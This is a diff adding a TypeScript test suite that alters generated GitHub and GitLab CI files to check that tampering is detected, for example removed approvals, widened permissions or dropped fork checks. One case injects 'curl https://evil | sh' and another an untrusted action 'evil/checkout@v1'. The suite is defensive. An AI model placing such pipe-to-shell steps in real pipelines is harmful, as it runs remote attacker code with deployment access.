@@ -1,0 +1,91 @@
+import type { CiSystem } from "../../fleet/schema/pipelines";
+import { differences, meaningOf } from "../../pipelines/model/meaning";
+import { RENDERERS } from "../../pipelines/systems";
+import { parserErrors, schemaErrors } from "../support/pipelines/github-checks";
+import { gitlabErrors } from "../support/pipelines/gitlab-checks";
+import { modelFor } from "../support/pipelines/sample-model";
+
+/** What somebody could break in a generated file by hand. */
+const FAULTS: readonly (readonly [string, CiSystem, string, RegExp | string, string])[] = [
+  ["a pull request that may apply", "github", "pull-request.yml", "FLEET_IDENTITY: plan", "FLEET_IDENTITY: apply"],
+  [
+    "an apply without a guard",
+    "github",
+    "deploy.yml",
+    /run: npx --no-install fleet ci guard/g,
+    "run: npm ci --ignore-scripts",
+  ],
+  [
+    "a script from somewhere else",
+    "github",
+    "deploy.yml",
+    "run: npx --no-install fleet ci apply",
+    "run: curl https://evil | sh",
+  ],
+  ["plans for forks", "github", "pull-request.yml", / && \(github\.event_name != 'pull_request'.*/, ""],
+  ["two applies of a cluster at once", "github", "deploy.yml", "cluster-${{ matrix.cluster }}", "${{ github.run_id }}"],
+  [
+    "an apply that a newer one cancels",
+    "github",
+    "deploy.yml",
+    "cancel-in-progress: false",
+    "cancel-in-progress: true",
+  ],
+  ["a waiting apply that is dropped", "github", "deploy.yml", "queue: max", "queue: single"],
+  ["an apply without approval", "github", "deploy.yml", / {4}environment:\n.*\n/, ""],
+  ["a job that may write the code", "github", "pull-request.yml", "contents: read", "contents: write"],
+  [
+    "a deploy that is not recorded",
+    "github",
+    "deploy.yml",
+    /- if: always\(\)\n {8}run: npx --no-install fleet ci record\n/,
+    "- run: npx --no-install fleet ci record\n",
+  ],
+  [
+    "an action that the model does not have",
+    "github",
+    "drift.yml",
+    /uses: actions\/checkout@\w+/,
+    "uses: evil/checkout@v1",
+  ],
+  ["an unknown key", "github", "drift.yml", "timeout-minutes:", "timeout:"],
+  ["a context that does not exist", "github", "drift.yml", "${{ matrix.shard }}", "${{ matrixx.shard }}"],
+  ["a job that does not exist", "gitlab", ".gitlab-ci.yml", "job: pull-request:check", "job: pull-request:checks"],
+  ["a stage that does not exist", "gitlab", ".gitlab-ci.yml", "stage: review", "stage: reviews"],
+  [
+    "plans of forks",
+    "gitlab",
+    ".gitlab-ci.yml",
+    / && \$CI_MERGE_REQUEST_SOURCE_PROJECT_PATH == \$CI_PROJECT_PATH/g,
+    "",
+  ],
+  ["an identity without a token", "gitlab", ".gitlab-ci.yml", / {2}id_tokens:\n.*\n.*\n/, ""],
+  ["a token without its audience", "gitlab", ".gitlab-ci.yml", "aud: sts.amazonaws.com", "audience: x"],
+  ["a plan that cannot be cancelled", "gitlab", ".gitlab-ci.yml", "interruptible: true", "interruptible: false"],
+  [
+    "a drift report that runs twice at once",
+    "gitlab",
+    ".gitlab-ci.yml",
+    "resource_group: drift",
+    "resource_group: drift2",
+  ],
+];
+
+test.each(FAULTS)("%s is noticed (%s, %s)", async (_, system, file, from, to) => {
+  const model = modelFor(system, { messages: { slack: "#x" } });
+  const renderer = RENDERERS[system];
+  const files = new Map(renderer?.render(model));
+  const [path = "", text = ""] = [...files].find(([each]) => each.endsWith(file)) ?? [];
+  const broken = text.replace(from, to);
+  expect(broken).not.toBe(text);
+
+  const found = differences(
+    meaningOf(model),
+    renderer?.read(new Map([...files, [path, broken]])) ?? [],
+    renderer?.notices(model),
+  ).filter((line) => !(system === "gitlab" && /^(?:deploy|destroy)\/\w+ is missing$/.test(line)));
+  const errors =
+    system === "github" ? [...schemaErrors(broken), ...(await parserErrors(path, broken))] : gitlabErrors(broken);
+
+  expect([...found, ...errors]).not.toEqual([]);
+});
